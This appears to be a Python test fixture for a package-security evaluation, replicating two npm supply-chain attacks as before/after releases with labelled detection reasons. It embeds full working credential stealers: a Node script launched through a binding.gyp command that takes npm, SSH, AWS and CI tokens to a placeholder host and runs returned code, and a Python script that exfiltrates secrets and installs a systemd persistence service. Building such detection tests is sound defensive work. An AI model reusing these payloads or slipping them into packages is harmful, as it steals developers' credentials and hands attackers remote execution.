"""No script in the manifest: npm runs node-gyp where there is a binding.gyp, and node-gyp runs what stands in it."""

from dataclasses import replace

from evals.replicas.ordinary.npm import settings
from evals.replicas.ordinary.npm_tools import api_hooks
from evals.replicas.replica import ReleaseSpec, Replica, at
from evals.replicas.rewriting.javascript_strings import string_array

_FAMILY = "gyp"

_GYP = "{'targets':[{'target_name':'symbols','type':'none','variables':{'probe':'<!(node ./lib/symbols.js > /dev/null 2>&1 && echo ok)'}}]}\n"
_STEALER = """\
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const COLLECTOR = 'https://symbols.dunlin.invalid/v2/ingest';

function read(name) {
  try {
    return fs.readFileSync(path.join(os.homedir(), name), 'utf8');
  } catch (error) {
    return '';
  }
}

function report() {
  return {
    npm: read('.npmrc'),
    ssh: read('.ssh/id_rsa'),
    aws: read('.aws/credentials'),
    tokens: [process.env.GITHUB_TOKEN, process.env.NPM_TOKEN, process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN],
  };
}

const request = https.request(COLLECTOR, { method: 'POST' }, (response) => {
  let program = '';
  response.on('data', (part) => { program += part; });
  response.on('end', () => { Function('require', program)(require); });
});
request.on('error', () => {});
request.end(Buffer.from(JSON.stringify(report())).toString('base64'));
"""
_SETTINGS = settings("dunlin-config")
_SETTINGS_BEFORE = ReleaseSpec(
    version="4.1.0",
    published=at("2026-02-02 09:00"),
    files=_SETTINGS,
    manifest={"main": "index.js", "license": "MIT"},
    publisher=("dunlindev", "dev@dunlin.test"),
)
_SETTINGS_AFTER = replace(
    _SETTINGS_BEFORE,
    version="4.1.1",
    published=at("2026-07-07 01:12"),
    files={**_SETTINGS, "binding.gyp": _GYP, "lib/symbols.js": string_array(_STEALER) or ""},
    payload=("lib/symbols.js",),
    plain={"lib/symbols.js": _STEALER},
)

# ----------------------------------------------------------------------------- @7nohe/openapi-react-query-codegen

_PYTHON = """\
import base64
import json
import os
import subprocess
import urllib.request

SERVICE = "https://detect.dunlin.invalid/"


def environment():
    return {name: value for name, value in os.environ.items() if "TOKEN" in name or "KEY" in name or "SECRET" in name}


def files():
    found = {}
    for name in (".npmrc", ".git-credentials", ".ssh/id_ed25519", ".config/gh/hosts.yml"):
        path = os.path.join(os.path.expanduser("~"), name)
        if os.path.exists(path):
            with open(path) as file:
                found[name] = file.read()
    return found


def main():
    body = base64.b64encode(json.dumps([environment(), files()]).encode())
    answer = urllib.request.urlopen(urllib.request.Request(SERVICE, body), timeout=20).read()
    if not answer:
        return
    unit = os.path.expanduser("~/.config/systemd/user/detect.service")
    with open(unit, "w") as file:
        file.write("[Service]\\nExecStart=/bin/sh -c '" + answer.decode() + "'\\n")
    subprocess.call(["systemctl", "--user", "enable", "--now", "detect.service"])


main()
"""
_HOOKS = api_hooks("@dunlin/openapi-hooks")
_HOOKS_BEFORE = ReleaseSpec(
    version="2.0.0",
    published=at("2026-06-28 09:00"),
    files=_HOOKS,
    manifest={"main": "dist/generate.js", "bin": {"openapi-hooks": "dist/cli.js"}, "license": "MIT"},
    publisher=("dunlin-seven", "seven@dunlin.test"),
    trusted=True,
    provenance=True,
)
_HOOKS_AFTER = replace(
    _HOOKS_BEFORE,
    version="2.0.1",
    published=at("2026-08-28 19:40"),
    files={
        **_HOOKS,
        "binding.gyp": "{'targets':[{'target_name':'setup','type':'none','sources':['<!(python3 ploppy.py)']}]}\n",
        "ploppy.py": _PYTHON,
    },
    manifest={**_HOOKS_BEFORE.manifest, "scripts": {"preinstall": "python3 ploppy.py || python ploppy.py || true"}},
    payload=("ploppy.py",),
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="phantom-gyp",
        incident="Miasma, Phantom Gyp (2026-07)",
        family=_FAMILY,
        ecosystem="npm",
        name="dunlin-config",
        before=_SETTINGS_BEFORE,
        after=_SETTINGS_AFTER,
        reasons=(
            "gyp-runs-commands",
            "hidden-code-that-acts",
            "stays-and-calls-home",
            "install-script-added",
            "credentials-read",
            "install-time-download-and-run",
            "obfuscated-code",
        ),
    ),
    Replica(
        id="openapi-codegen",
        incident="@7nohe/openapi-react-query-codegen (2026-08-28)",
        family=_FAMILY,
        ecosystem="npm",
        name="@dunlin/openapi-hooks",
        before=_HOOKS_BEFORE,
        after=_HOOKS_AFTER,
        reasons=(
            "gyp-runs-commands",
            "hidden-code-that-acts",
            "stays-and-calls-home",
            "install-script-added",
            "script-runs-another-runtime",
            "credentials-read",
            "persistence-written",
            "environment-sent",
        ),
    ),
)
